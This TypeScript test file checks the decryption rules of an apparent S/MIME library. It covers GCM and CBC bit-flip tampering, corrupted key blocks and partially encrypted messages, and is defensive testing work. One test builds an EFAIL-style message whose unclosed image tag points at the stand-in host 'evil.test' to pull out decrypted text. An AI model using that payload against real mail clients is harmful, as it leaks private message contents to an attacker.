import { DECRYPTION_FAILED_MESSAGE } from '@sealpost/core';
import { describe, expect, it } from 'vitest';
import { type SuiteContext, codes, identityOf } from './context.js';
import { envelopedMessage, mixedMessage, textEntity, textMessage } from './messages.js';
import { cmsOf, envelopeParts, flipBit } from './tamper.js';

export function decryptionTests(ctx: SuiteContext): void {
  const original = (): Uint8Array => textMessage({ from: 'alice@example.com', to: 'bob@example.com' }, 'Account: 1234\r\nPIN: 0000\r\n');
  const sealFor = (cipher: 'aes-256-gcm' | 'aes-256-cbc', keyTransport: 'rsa-pkcs1' | 'rsa-oaep' = 'rsa-pkcs1') =>
    ctx.sp.encrypt(original(), { recipients: [ctx.pki.identities.bob.cert], cipher, keyTransport });
  const asBob = (message: Uint8Array, requireAuthenticated = false) => ctx.sp.decrypt(message, { identity: identityOf(ctx.pki.identities.bob), requireAuthenticated });
  const rewrap = (cms: Uint8Array, cipher: string) => envelopedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, cms, cipher.endsWith('gcm') ? 'authEnveloped-data' : 'enveloped-data');

  const expectGenericFailure = (report: Awaited<ReturnType<typeof asBob>>) => {
    expect(report.status).toBe('failed');
    expect(report.content).toBeUndefined();
    expect(report.errors).toEqual([{ code: 'ERR_DECRYPTION_FAILED', message: DECRYPTION_FAILED_MESSAGE }]);
  };

  describe('decryption rules', () => {
    it('control: an untouched message decrypts', async () => {
      const report = await asBob(await sealFor('aes-256-gcm'));
      expect(report.status).toBe('decrypted');
      expect(report.authenticated).toBe(true);
    });

    it('tampered GCM ciphertext: generic failure, no plaintext', async () => {
      const cms = cmsOf(await sealFor('aes-256-gcm'));
      const { ciphertext } = envelopeParts(cms);
      expectGenericFailure(await asBob(rewrap(flipBit(cms, ciphertext.offset + 3), 'gcm')));
    });

    it('tampered GCM tag: generic failure, no plaintext', async () => {
      const cms = cmsOf(await sealFor('aes-256-gcm'));
      const { mac } = envelopeParts(cms);
      expect(mac).not.toBeNull();
      expectGenericFailure(await asBob(rewrap(flipBit(cms, mac!.offset + mac!.length - 1), 'gcm')));
    });

    it('CBC bit flip that breaks the padding: generic failure', async () => {
      const cms = cmsOf(await sealFor('aes-256-cbc'));
      const { ciphertext } = envelopeParts(cms);
      // The last byte of the next-to-last block XORs into the pad length: 0x80 makes it invalid for sure.
      const offset = ciphertext.offset + ciphertext.length - 17;
      expectGenericFailure(await asBob(rewrap(flipBit(cms, offset, 0x80), 'cbc')));
    });

    it('CBC is malleable: an early bit flip decrypts, is reported unauthenticated, and a signature inside catches it', async () => {
      const { alice, bob } = ctx.pki.identities;
      const sealed = await ctx.sp.signAndEncrypt(original(), { signer: identityOf(alice), recipients: [bob.cert], cipher: 'aes-256-cbc' });
      const cms = cmsOf(sealed);
      const { ciphertext } = envelopeParts(cms);
      // Mid-ciphertext lands in the signed part or its signature; the multipart/signed header
      // fields ahead of them are not covered by any signature, so a flip there could go unnoticed.
      const middle = ciphertext.offset + 16 * Math.floor(ciphertext.length / 32);
      const tampered = rewrap(flipBit(cms, middle), 'cbc');
      const decrypted = await asBob(tampered);
      expect(decrypted.authenticated).toBe(false);
      const opened = await ctx.sp.open(tampered, { identities: [identityOf(bob)], trustAnchors: ctx.anchors });
      expect(['invalid', 'failed']).toContain(opened.status);
      expect(opened.content).toBeUndefined();
    });

    it('corrupted encrypted key (GCM): the same generic failure', async () => {
      const cms = cmsOf(await sealFor('aes-256-gcm'));
      const { encryptedKey } = envelopeParts(cms);
      expectGenericFailure(await asBob(rewrap(flipBit(cms, encryptedKey.offset + 10), 'gcm')));
    });

    it('corrupted encrypted key (OAEP, GCM): the same generic failure', async () => {
      if (!ctx.backend.capabilities.keyTransport.includes('rsa-oaep')) return expect(sealFor('aes-256-gcm', 'rsa-oaep')).rejects.toMatchObject({ code: 'ERR_UNSUPPORTED_KEY_TRANSPORT' });
      const cms = cmsOf(await sealFor('aes-256-gcm', 'rsa-oaep'));
      const { encryptedKey } = envelopeParts(cms);
      expectGenericFailure(await asBob(rewrap(flipBit(cms, encryptedKey.offset + 10), 'gcm')));
    });

    it('corrupted encrypted key (CBC): never the original plaintext, never a distinct error', async () => {
      const cms = cmsOf(await sealFor('aes-256-cbc'));
      const { encryptedKey } = envelopeParts(cms);
      const report = await asBob(rewrap(flipBit(cms, encryptedKey.offset + 10), 'cbc'));
      // RFC 3218: a bad key block yields a random key; CBC padding then fails, except about 1 time in 256.
      if (report.status === 'failed') expectGenericFailure(report);
      else {
        expect(report.status).toBe('decrypted');
        expect(new TextDecoder().decode(report.content)).not.toContain('PIN: 0000');
      }
    });

    it('the right recipient with the wrong private key: the same generic failure', async () => {
      const { alice, bob } = ctx.pki.identities;
      const report = await ctx.sp.decrypt(await sealFor('aes-256-gcm'), { identity: { certificate: bob.cert, privateKey: identityOf(alice).privateKey } });
      expectGenericFailure(report);
    });

    it('a message for someone else: failed, no recipient', async () => {
      const report = await ctx.sp.decrypt(await sealFor('aes-256-gcm'), { identity: identityOf(ctx.pki.identities.alice) });
      expect(report.status).toBe('failed');
      expect(codes(report)).toEqual(['ERR_NO_RECIPIENT']);
    });

    it('requireAuthenticated refuses CBC and accepts GCM', async () => {
      const cbc = await asBob(await sealFor('aes-256-cbc'), true);
      expect(cbc.status).toBe('failed');
      expect(cbc.content).toBeUndefined();
      expect(codes(cbc)).toEqual(['ERR_NOT_AUTHENTICATED']);
      expect((await asBob(await sealFor('aes-256-gcm'), true)).status).toBe('decrypted');
    });

    it('an encrypted part inside an unencrypted multipart is reported, never decrypted and merged', async () => {
      const sealed = await sealFor('aes-256-gcm');
      const part = sealed.subarray(Buffer.from(sealed).indexOf('Content-Type: application/pkcs7-mime'));
      const message = mixedMessage({ from: 'alice@example.com' }, [textEntity('Please click: <img src="http://evil.test/?'), part]);
      const report = await asBob(message);
      expect(report.status).toBe('partially-encrypted');
      expect(report.encryptedPath).toBe('2');
      expect(report.content).toBeUndefined();
      const opened = await ctx.sp.open(message, { identities: [identityOf(ctx.pki.identities.bob)], trustAnchors: ctx.anchors });
      expect(opened.status).toBe('partially-encrypted');
      expect(opened.content).toBeUndefined();
    });

    it('a plain message is not-encrypted', async () => {
      expect((await asBob(original())).status).toBe('not-encrypted');
    });

    it('open stops at the layer limit with a typed error', async () => {
      const { alice, bob } = ctx.pki.identities;
      let message = original();
      for (let i = 0; i < 3; i++) message = await ctx.sp.sign(message, { signer: identityOf(alice) });
      const limited = (await import('@sealpost/core')).createSealpost({ backend: ctx.backend, limits: { maxLayers: 2 } });
      await expect(limited.open(message, { identities: [identityOf(bob)], trustAnchors: ctx.anchors })).rejects.toMatchObject({ code: 'ERR_LIMIT_DEPTH' });
      const opened = await ctx.sp.open(message, { identities: [identityOf(bob)], trustAnchors: ctx.anchors });
      expect(opened.layers).toHaveLength(3);
      expect(opened.status).toBe('valid');
    });
  });
}
